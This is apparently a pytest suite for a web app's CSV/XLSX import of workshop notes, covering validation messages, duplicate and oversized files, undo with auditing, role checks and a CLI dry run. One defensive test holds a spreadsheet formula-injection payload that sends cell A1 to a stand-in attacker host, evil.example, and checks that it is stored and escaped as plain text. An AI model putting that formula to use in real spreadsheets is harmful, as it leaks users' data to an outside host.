"""Bad files are refused with clear messages and nothing is partly stored; imports can be undone."""

from __future__ import annotations

import os

import pytest
from sqlmodel import select

from crowd.cli import main as crowd_cli
from crowd.models import Access, AuditEntry, Contribution, ImportBatch, Stream
from tests.streams.conftest import (
    GOOD_ROWS,
    batch_id_of,
    batches,
    count,
    notes,
    upload,
    write_csv,
    write_xlsx,
)


def test_preview_lists_each_problem_with_its_line_and_a_bad_file_stores_nothing(
    lead, open_workshop, db, tmp_path
):
    workshop, _ = open_workshop
    rows = [
        GOOD_ROWS[0],
        ["", "", "", "", "", ""],  # a blank row: skipped silently
        ["focus group", "31/02/2024", "Group B", "nurse", "Gotham", ""],
        ["online", "2024-01-01", "Group C", "", "", "x" * 2001],
        GOOD_ROWS[1],
    ]
    path = write_csv(tmp_path / "bad.csv", rows)
    preview = upload(lead, workshop, path)
    assert preview.status_code == 200
    text = preview.text
    assert "Line 4: The text is missing." in text
    assert "Line 4: The date “31/02/2024” is not a date" in text
    assert "Line 4: The role “nurse” is not one of" in text
    assert "Line 4: The borough “Gotham” is not a London borough" in text
    assert "Line 5: The stream “online” is not focus group or literature." in text
    assert "Line 5: The text is 2,001 characters: the limit is 2,000." in text
    assert "Line 3" not in text
    assert "nothing can be imported until the file is fixed" in text
    assert "/confirm" not in text
    refused = lead.post(f"/manage/imports/{batch_id_of(preview)}/confirm", follow_redirects=True)
    assert "Nothing was imported" in refused.text
    assert count(db, Contribution) == 0


def test_a_file_missing_columns_is_refused_naming_them(lead, open_workshop, db, tmp_path):
    workshop, _ = open_workshop
    path = write_csv(tmp_path / "cols.csv", [["hello"]], header=["Comment"])
    response = upload(lead, workshop, path)
    assert response.status_code == 400
    assert "The file has no column for: stream, date, group or source reference" in response.text
    assert "Its first row has: Comment" in response.text
    assert count(db, ImportBatch) == 0


def test_the_same_file_twice_imports_once_and_names_the_earlier_batch(lead, open_workshop, db, tmp_path):
    workshop, _ = open_workshop
    path = write_csv(tmp_path / "notes.csv", GOOD_ROWS)
    first = upload(lead, workshop, path)
    lead.post(f"/manage/imports/{batch_id_of(first)}/confirm")
    again = upload(lead, workshop, path)
    assert again.status_code == 409
    assert f"already imported as batch #{batch_id_of(first)} (notes.csv" in again.text
    assert len(notes(db)) == 3


def test_a_preview_confirmed_twice_stores_its_notes_once(lead, open_workshop, db, tmp_path):
    workshop, _ = open_workshop
    preview = upload(lead, workshop, write_csv(tmp_path / "n.csv", GOOD_ROWS))
    batch_id = batch_id_of(preview)
    lead.post(f"/manage/imports/{batch_id}/confirm")
    again = lead.post(f"/manage/imports/{batch_id}/confirm", follow_redirects=True)
    assert "already imported" in again.text
    assert len(notes(db)) == 3


def test_undo_hides_a_batch_is_audited_and_lets_the_file_be_imported_again(lead, open_workshop, db, tmp_path):
    workshop, _ = open_workshop
    path = write_csv(tmp_path / "notes.csv", GOOD_ROWS)
    batch_id = batch_id_of(upload(lead, workshop, path))
    lead.post(f"/manage/imports/{batch_id}/confirm")
    page = lead.post(f"/manage/imports/{batch_id}/undo", follow_redirects=True)
    assert "Batch undone" in page.text
    assert notes(db, shown_only=True) == []
    with db.read() as session:
        actions = [
            e.action for e in session.exec(select(AuditEntry).where(AuditEntry.target_type == "import_batch"))
        ]
    assert actions == ["import.confirm", "import.undo"]
    again = upload(lead, workshop, path)
    lead.post(f"/manage/imports/{batch_id_of(again)}/confirm")
    assert len(notes(db, shown_only=True)) == 3


def test_a_file_over_50_mb_is_refused_before_it_is_read(lead, open_workshop, db, tmp_path):
    workshop, _ = open_workshop
    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:
        handle.write(b"stream,date,group,text\n")
        handle.truncate(51 * 1024 * 1024)
    response = upload(lead, workshop, path)
    assert response.status_code == 400
    assert "the limit is 50 MB" in response.text
    assert count(db, ImportBatch) == 0
    os.remove(path)


def test_formula_cells_are_stored_as_text_and_shown_escaped(lead, open_workshop, db, tmp_path):
    workshop, _ = open_workshop
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click <b>me</b>")'
    rows = [
        ["literature", "2021", "Report", "", "", evil],
        ["literature", "2021", "@SUM(1+1)", "", "", "+44 is not a formula but starts like one"],
        ["literature", "2021", "Report", "", "", "-1 point for access"],
    ]
    preview = upload(lead, workshop, write_xlsx(tmp_path / "formula.xlsx", rows))
    assert "Click &lt;b&gt;me&lt;/b&gt;" in preview.text and "<b>me</b>" not in preview.text
    lead.post(f"/manage/imports/{batch_id_of(preview)}/confirm")
    stored = notes(db)
    assert stored[0].text == evil
    assert stored[1].source_ref == "@SUM(1+1)"
    page = lead.client.get(f"/manage/imports/{batch_id_of(preview)}")
    assert "Click &lt;b&gt;me&lt;/b&gt;" in page.text


@pytest.mark.parametrize("access", [Access.PARTICIPANT, Access.MODERATOR])
def test_people_below_lead_cannot_import_or_undo(person, lead, open_workshop, db, tmp_path, access):
    workshop, _ = open_workshop
    batch_id = batch_id_of(upload(lead, workshop, write_csv(tmp_path / "n.csv", GOOD_ROWS)))
    other = person(f"{access.value}@example.org", access=access)
    assert other.client.get("/manage/imports").status_code == 403
    assert other.client.get(f"/manage/imports/{batch_id}").status_code == 403
    assert upload(other, workshop, tmp_path / "n.csv").status_code == 403
    for action in ("confirm", "undo", "discard"):
        assert other.post(f"/manage/imports/{batch_id}/{action}").status_code == 403
    assert count(db, Contribution) == 0


def test_a_lead_must_choose_a_workshop_and_a_file(lead, open_workshop, db):
    response = lead.post("/manage/imports", {"workshop_id": "", "stream": ""})
    assert response.status_code == 400
    assert "Choose the workshop these notes belong to." in response.text
    workshop, _ = open_workshop
    response = lead.post("/manage/imports", {"workshop_id": str(workshop.id), "stream": ""})
    assert response.status_code == 400 and "Choose a file to import." in response.text
    assert batches(db) == []


def test_cli_imports_a_file_with_a_dry_run_first(open_workshop, db, settings, tmp_path, monkeypatch, capsys):
    workshop, _ = open_workshop
    monkeypatch.setenv("DATABASE_URL", settings.database_url)
    monkeypatch.setattr("crowd.cli._database", lambda s: db_with_tables(settings))
    path = write_csv(
        tmp_path / "cli.csv", [r[1:] for r in GOOD_ROWS], header=["Date", "Group", "Role", "Borough", "Text"]
    )
    args = ["import", str(path), "--workshop", workshop.slug, "--stream", "literature"]
    assert crowd_cli([*args, "--dry-run"]) == 0
    assert "Dry run: nothing was imported." in capsys.readouterr().out
    assert notes(db) == []
    assert crowd_cli(args) == 0
    assert "Imported 3 notes as batch" in capsys.readouterr().out
    assert {n.stream for n in notes(db)} == {Stream.LITERATURE}
    assert crowd_cli(args) == 1
    assert "already imported as batch" in capsys.readouterr().err


def db_with_tables(settings):
    from crowd.db import Database

    return Database(settings.database_url)
